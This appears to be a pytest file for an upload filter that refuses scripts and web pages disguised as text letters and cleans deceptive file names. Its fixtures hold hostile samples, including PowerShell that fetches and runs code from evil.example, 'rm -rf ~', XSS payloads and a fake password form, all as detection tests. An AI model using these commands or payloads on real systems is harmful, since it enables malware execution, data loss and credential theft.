"""Programs and pages written as text are refused however they are spelt and saved; letters are not.

Also: file names lose every invisible character and end in the extension of the type found in the content.
"""

from __future__ import annotations

import io

import pytest

from backend.attachments import filetypes
from backend.attachments.filetypes import sniff_file
from backend.attachments.names import clean_name, file_name, kind_for_media_type
from backend.attachments.scripts import CHUNK_SIZE, is_script_text, looks_like_script, text_encoding

BATCH = "@echo off\r\nstart calc.exe\r\n"
SCRIPTS = {
    "batch": b"@echo off\r\nrem tidy up\r\nstart calc.exe\r\n",
    "batch upper case after spaces": b"   @ECHO OFF\n\tSTART calc.exe\n",
    "batch without echo": b"Readings for the damp survey\ncall \\\\server\\share\\run.bat\n",
    "batch start with a window title": b'notes\nstart "" "C:\\Users\\Public\\x.exe"\n',
    "batch set": b"set target=%TEMP%\\x.exe\n",
    "batch goto label": b"Damp log\ngoto end\n:end\n",
    "batch after an ampersand": b"Damp report & start calc.exe\n",
    "batch with carets": b"s^tart c^alc.exe\n",
    "batch with old mac line ends": b"Damp report\rstart calc.exe\r",
    "batch powershell line": b"Damp report\npowershell -nop -w hidden -c calc\n",
    "batch reg add": b"Damp report\nreg add HKCU\\Software\\x /v y /d z\n",
    "cmd /c anywhere": b"Please run: cmd /c calc",
    "utf-8 bom batch": ("\ufeff" + BATCH).encode(),
    "utf-16 batch with bom": BATCH.encode("utf-16"),
    "utf-16 big-endian batch with bom": b"\xfe\xff" + BATCH.encode("utf-16-be"),
    "utf-16 batch without bom": BATCH.encode("utf-16-le"),
    "utf-32 batch": BATCH.encode("utf-32"),
    "jscript": b'WScript.CreateObject("WScript.Shell").Run("calc.exe")',
    "jscript activex": b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');",
    "jscript eval": b"var code = 'calc'; eval (code);",
    "jscript new function": b"var f = new Function('return 1');",
    "vbscript": b'Dim s\nSet s = CreateObject("WScript.Shell")\ns.Run "calc.exe"\n',
    "vbscript error handling": b"On Error Resume Next\nx = 1\n",
    "powershell": b"$c = New-Object Net.WebClient\n$c.DownloadString('https://evil.example') | IEX\n",
    "powershell cmdlet": b"Invoke-WebRequest https://evil.example -OutFile x.exe\nStart-Process x.exe",
    "shebang after spaces": b"\n  #!/bin/sh\nrm -rf ~\n",
    "html tag in the middle": b"Damp report\nSee <img src=x onerror=alert(1)> here",
    "html form in the middle": b"Please sign in\n<form action=//evil><input type=password></form>",
    "hta application": b"Damp report\n<HTA:APPLICATION ID=x>\n<script>x</script>",
    "tag split over lines": b"Report\n<iframe\nsrc=x></iframe>",
    "whole web page": b"<!DOCTYPE html>\n<title>Damp</title><p>Report</p>",
    "page without a doctype": b"Damp report\n<html><body><p>Report</p></body></html>",
    "unknown tag with an event handler": b"Report <x-y tabindex=1 onfocus=alert(1) autofocus>",
    "javascript url": b"Click javascript:alert(1)",
    "url shortcut": b"[InternetShortcut]\r\nURL=file:///C:/Windows/System32/calc.exe\r\n",
    "registry file": b"Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\x]\r\n",
    "python without an interpreter line": b"import os\nos.system('calc')\n",
    "script after a long letter": b"Dear officer,\n" + b"The damp is bad. " * 8000 + b"\nstart calc.exe\n",
    "tag across the chunk cut": b"a" * (CHUNK_SIZE - 3) + b"\n<script>alert(1)</script>",
    "tag in one very long line": b"a" * (CHUNK_SIZE * 2) + b"<script>alert(1)</script>",
}
LETTERS = {
    "english letter with start and set": (
        b"Dear Sir or Madam,\r\nThe leak started in March. I set up a direct debit and your contractor said the work "
        b"would start on Monday.\r\nStart date of my tenancy: 1 May 2020.\r\nSet out below are the dates it came "
        b"back.\r\nCall me on 07700 900123.\r\nYours faithfully,\r\nJane Evans <jane@example.org>\r\n"
    ),
    "welsh letter": (
        b"Annwyl Syr/Madam,\nMae'r tamprwydd yn y gegin yn waeth ers mis Mawrth. Galwch fi ar 01234 567890.\n"
        b"Diolch am eich help.\nYn gywir,\nGwen ap Rhys\n"
    ),
    "arabic letter": (
        "السيد المحترم،\r\nتسرب المياه في الحمام منذ شهرين، وبدأ العفن على الجدران. أرجو إرسال فني.\r\nمع الشكر\r\n"
    ).encode(),
    "polish letter with bom": "\ufeffSzanowni Państwo,\r\nprzecieka dach. Proszę o kontakt.\r\n".encode(),
    "numbers and symbols": b"Rent went from 90 to 95, so < 100 but > 90 a week. I <3 my home. 5 < 6.\n",
    "echo in prose": b"Echo on the stairs is loud at night.\nIf not fixed, I will complain.\n",
    "a new function room": b"We would like a new function room for residents' meetings.\n",
    "email addresses in brackets": b"From: Sam <sam.jones@example.org>\nTo: <repairs@example.org>\n",
    "web address in brackets": b"See <https://www.example.org/repairs> for the form.\n",
    "percentages": b"They said 20% of the temp staff would come. Call me when set.\n",
    "text pasted from an email": (
        b"<p>Hi,</p>\r\n<p>The boiler is <b>still</b> broken.<br>Engineer came on <i>Tuesday</i>.</p>\r\n"
        b'<p>See <a href="https://www.example.org/repairs">the repairs page</a>. <!-- signature --></p>\r\n'
    ),
}


@pytest.mark.parametrize("content", SCRIPTS.values(), ids=SCRIPTS.keys())
def test_sniff_file_script_written_as_text_is_refused(content: bytes) -> None:
    assert sniff_file(io.BytesIO(content)) is None
    assert looks_like_script(io.BytesIO(content))


@pytest.mark.parametrize("content", LETTERS.values(), ids=LETTERS.keys())
def test_sniff_file_letter_is_text(content: bytes) -> None:
    assert sniff_file(io.BytesIO(content)) == filetypes.TEXT
    assert not is_script_text(io.BytesIO(content))


@pytest.mark.parametrize("content", [SCRIPTS["batch"], SCRIPTS["utf-16 batch with bom"], SCRIPTS["jscript"]])
def test_is_script_text_names_scripts_for_the_refusal(content: bytes) -> None:
    assert is_script_text(io.BytesIO(content))


@pytest.mark.parametrize(
    "content", [b"MZ\x90\x00" + b"\x00" * 200, bytes(range(256)) * 4, "Damp in the kitchen".encode("utf-16")]
)
def test_is_script_text_is_false_for_other_refused_files(content: bytes) -> None:
    assert not is_script_text(io.BytesIO(content))


def test_looks_like_script_keeps_the_stream_position() -> None:
    stream = io.BytesIO(SCRIPTS["batch"])
    stream.seek(7)
    assert looks_like_script(stream)
    assert stream.tell() == 7


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (b"\xef\xbb\xbfabc", ("utf-8", 3)),
        (b"\xff\xfea\x00", ("utf-16-le", 2)),
        (b"\xfe\xff\x00a", ("utf-16-be", 2)),
        (b"\xff\xfe\x00\x00a\x00\x00\x00", ("utf-32-le", 4)),
        ("plain words".encode("utf-16-le"), ("utf-16-le", 0)),
        ("plain words".encode("utf-16-be"), ("utf-16-be", 0)),
        (b"plain words", ("utf-8", 0)),
    ],
)
def test_text_encoding_reads_the_mark_or_the_nul_pattern(head: bytes, expected: tuple[str, int]) -> None:
    assert text_encoding(head) == expected


# --- names ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("\u202egnp.exe", "gnp.exe"),  # right-to-left override: shown as "exe.png"
        ("photo\u2066\u2069\u200e\u200f\u061c.png", "photo.png"),  # isolates and marks
        ("a\u200b\u200c\u200d\u2060\ufeffb.pdf", "ab.pdf"),  # zero-width characters and the byte-order mark
        ("line\u2028para\u2029.txt", "linepara.txt"),  # line and paragraph separators
        ("tab\there\u00a0and\u3000there.txt", "tab here and there.txt"),
        ("C:\\Users\\sam\\..\\photo\x00.png", "photo.png"),
        ("hangul\u3164filler.png", "hangulfiller.png"),
        ("what?.png", "what_.png"),
        ("...", "file"),
        ("", "file"),
        ("Llythyr at y landlord – Gwen.pdf", "Llythyr at y landlord – Gwen.pdf"),
        ("رسالة إلى المالك.pdf", "رسالة إلى المالك.pdf"),
    ],
)
def test_clean_name_strips_invisible_characters(given: str, expected: str) -> None:
    assert clean_name(given) == expected


@pytest.mark.parametrize(
    ("given", "kind", "expected"),
    [
        ("evidence.bat", filetypes.TEXT, "evidence.txt"),
        ("evidence.html", filetypes.TEXT, "evidence.txt"),
        ("\u202egnp.exe", filetypes.PNG, "gnp.png"),
        ("damp.jpg", filetypes.PNG, "damp.png"),
        ("invoice.pdf.exe", filetypes.PDF, "invoice.pdf.pdf"),
        ("notes", filetypes.TEXT, "notes.txt"),
        (".hidden", filetypes.TEXT, "hidden.txt"),
        ("", filetypes.JPEG, "file.jpg"),
        ("x" * 300 + ".png", filetypes.PNG, "x" * 196 + ".png"),
        ("report.doc", None, "report.bin"),
    ],
)
def test_file_name_ends_in_the_extension_of_the_type(given: str, kind: filetypes.FileKind, expected: str) -> None:
    assert file_name(given, kind) == expected


def test_kind_for_media_type_finds_every_kind_and_nothing_else() -> None:
    assert all(kind_for_media_type(kind.media_type).media_type == kind.media_type for kind in filetypes.KINDS)
    assert kind_for_media_type("text/html") is None
